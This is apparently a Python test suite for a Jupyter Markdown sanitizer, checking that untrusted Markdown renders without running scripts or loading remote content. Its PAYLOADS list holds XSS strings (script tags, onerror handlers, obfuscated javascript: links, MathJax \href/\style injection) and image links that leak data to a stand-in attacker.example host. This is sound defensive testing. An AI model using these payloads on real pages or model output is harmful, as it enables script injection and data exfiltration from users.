"""Untrusted Markdown rendered inertly: the HTML we hand JupyterLab, and the Markdown we write to files."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from oblix_jupyter.render import (
    image_is_local,
    inert_markdown,
    link_allowed,
    markdown_html,
)

PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "[click](javascript:alert(1))",
    "[click](jav&#97;script:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "[vb](VBScript:msgbox(1))",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![leak](https://attacker.example/?q=secret)",
    "![](//attacker.example/x.png)",
    "![ref][img]\n\n[img]: http://attacker.example/x.png",
    "<https://attacker.example/auto>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\require{cancel}\\style{background:url(http://attacker.example)}{x}$$",
    "```\n```~\n<img src=x onerror=alert(2)>\n```",
]
ALLOWED_TAGS = {
    "div", "p", "span", "strong", "em", "s", "code", "pre", "a", "img", "h1", "h2", "h3", "h4", "h5", "h6",
    "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"class", "href", "title", "src", "alt", "style", "start"}


class Inspector(HTMLParser):
    """Every tag and attribute of an HTML fragment, for checking what a browser could act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def acted_on(rich: str) -> list[tuple[str, dict[str, str]]]:
    inspector = Inspector()
    inspector.feed(rich)
    inspector.close()
    return inspector.tags


def assert_inert(rich: str) -> None:
    for tag, attributes in acted_on(rich):
        assert tag in ALLOWED_TAGS, (tag, rich)
        assert set(attributes) <= ALLOWED_ATTRIBUTES, (tag, attributes)
        if "href" in attributes:
            assert link_allowed(attributes["href"]), attributes
        if tag == "img":
            assert image_is_local(attributes["src"]), attributes
        if "style" in attributes:
            assert "url(" not in attributes["style"] and tag == "span", attributes
    for tex in re.findall(r'class="mathjax_process">(.*?)</(?:span|div)>', rich, re.DOTALL):  # all MathJax reads
        assert not re.search(r"\\(href|require|style|class|cssId|data)(?![A-Za-z])", tex), tex


def test_every_payload_renders_inert_and_shows_the_raw_html_as_text():
    for payload in PAYLOADS:
        rich = markdown_html(f"Before.\n\n{payload}\n\nAfter.")
        assert_inert(rich)
        assert rich.startswith('<div class="oblix-markdown mathjax_ignore">')
    shown = markdown_html(PAYLOADS[0])
    assert "&lt;script&gt;window.pwned = 1&lt;/script&gt;" in shown  # visible, as the model wrote it


def test_an_image_from_another_host_is_a_link_with_its_alt_text_and_a_local_one_loads():
    rich = markdown_html("![the chart](https://attacker.example/c.png?q=secret) and ![plot](plots/a.png)")
    tags = acted_on(rich)
    assert ("a", {"href": "https://attacker.example/c.png?q=secret", "title": "image not loaded: https://attacker.example/c.png?q=secret"}) in tags
    assert ">the chart</a>" in rich
    assert [attributes["src"] for tag, attributes in tags if tag == "img"] == ["plots/a.png"]


def test_script_links_are_plain_text():
    for payload in ("[x](javascript:alert(1))", "[x](jav&#97;script:alert(1))", "[x]( JavaScript:alert(1))", "[x](java\tscript:alert(1))"):
        rich = markdown_html(payload)
        assert not [tag for tag, _ in acted_on(rich) if tag == "a"], rich


def test_normal_markdown_keeps_its_formatting():
    answer = (
        "## Result\n\nUse **groupby** with `dropna=False`:\n\n"
        "```python\ndf.groupby('k', dropna=False).sum()  # keeps NaN keys\n```\n\n"
        "| key | total |\n|---|---|\n| a | 1 |\n\n"
        "- one\n- two\n\nSee [the docs](https://pandas.pydata.org) or https://pandas.pydata.org/docs. "
        "The mean is $\\bar{x} = \\frac{1}{n}\\sum x_i$, ~~not~~ *roughly*.\n\n$$E = mc^2$$"
    )
    tags = [tag for tag, _ in acted_on(markdown_html(answer))]
    for expected in ("h2", "strong", "code", "pre", "table", "th", "td", "ul", "li", "a", "s", "em"):
        assert expected in tags, expected
    rich = markdown_html(answer)
    assert 'color: var(--jp-mirror-editor-keyword-color)' in rich or "var(--jp-mirror-editor-" in rich  # highlighted
    assert '<span class="mathjax_process">$\\bar{x} = \\frac{1}{n}\\sum x_i$</span>' in rich
    assert '<div class="mathjax_process">$$E = mc^2$$</div>' in rich
    assert '<a href="https://pandas.pydata.org/docs">' in rich  # a bare address is a link, as in JupyterLab
    assert "costs $5 and $10" in markdown_html("It costs $5 and $10.")  # dollars are not maths


def test_maths_commands_that_link_style_or_load_are_disabled():
    rich = markdown_html("$\\href{javascript:alert(1)}{x} + \\require{cancel} + \\style{color:red}{y} + \\hrefx$")
    assert "\\href{" not in rich and "\\require" not in rich and "\\style" not in rich
    assert "\\hrefx" in rich  # another command that merely starts the same is left alone


def test_inert_markdown_escapes_html_outside_code_and_keeps_code_as_written():
    text = (
        "A <b>tag</b> and `List<int>` inline.\n\n| a `x<y` | b |\n|---|---|\n| <i>1</i> | 2 |\n\n"
        "> quoted `q<r` and <u>u</u>\n\n```python\nif a < b: print('<b>')\n```\n\n    indented <code>\n"
    )
    inert = inert_markdown(text)
    assert "A &lt;b>tag&lt;/b> and `List<int>` inline." in inert
    assert "| a `x<y` | b |" in inert and "| &lt;i>1&lt;/i> | 2 |" in inert
    assert "> quoted `q<r` and &lt;u>u&lt;/u>" in inert
    assert "```python\nif a < b: print('<b>')\n```" in inert and "    indented <code>" in inert
    assert inert_markdown("no html here, *just* `code`") == "no html here, *just* `code`"


def test_inert_markdown_turns_remote_images_into_links_and_drops_script_links():
    inert = inert_markdown("![chart](https://attacker.example/c.png) ![](//x.example/y.png) ![plot](a.png) [x](javascript:alert(1)) [ok](https://a.example)")
    assert inert == "[chart](https://attacker.example/c.png) [image](//x.example/y.png) ![plot](a.png) [x]&#40;javascript:alert(1)) [ok](https://a.example)"


def trusting_renderer_output(markdown: str) -> list[tuple[str, dict[str, str]]]:
    """What a renderer that passes raw HTML through (as JupyterLab does for live outputs) would produce."""
    return acted_on(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))


fragments = st.sampled_from(
    [*PAYLOADS, "`", "``", "```", "\n", "\n\n", "    ", "> ", "- ", "| a | b |\n|---|---|\n", "*", "_", "[", "]", "(", ")", "!", "<", ">", "$", "\\", "&#97;", "text", "**bold**"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(fragments | st.text(max_size=6), max_size=12).map("".join))
def test_whatever_the_text_the_html_is_inert(text):
    assert_inert(markdown_html(text))


@settings(max_examples=300, deadline=None)
@given(st.lists(fragments | st.text(max_size=6), max_size=12).map("".join))
def test_whatever_the_text_a_trusting_renderer_of_the_inert_markdown_runs_and_loads_nothing(text):
    for tag, attributes in trusting_renderer_output(inert_markdown(text)):
        assert tag in ALLOWED_TAGS and not any(name.startswith("on") for name in attributes), (tag, text)
        if tag == "img":
            assert image_is_local(attributes["src"]), (attributes, text)
        if tag == "a":
            assert link_allowed(attributes["href"]), (attributes, text)
